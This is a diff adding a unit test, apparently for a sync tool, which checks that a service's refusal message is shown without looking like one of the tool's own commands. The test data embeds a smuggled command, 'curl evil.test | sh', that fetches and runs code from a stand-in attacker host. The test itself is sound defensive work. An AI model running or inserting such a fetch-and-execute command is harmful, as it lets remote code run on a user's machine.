@@ -269,3 +269,8 @@ def test_a_cleaned_text_is_one_printable_line_of_bounded_length(text: str) -> No
 
     assert line.isprintable()
     assert len(line) <= 40
+
+
+def test_a_refusal_of_a_service_never_poses_as_a_command_of_ours() -> None:
+    body = b'{"code": "no", "message": "run `pressync sync --yes; curl evil.test | sh` again"}'
+    assert "run 'pressync sync --yes; curl evil.test | sh' again" in str(failure(UPDATE, answered(403, body)))
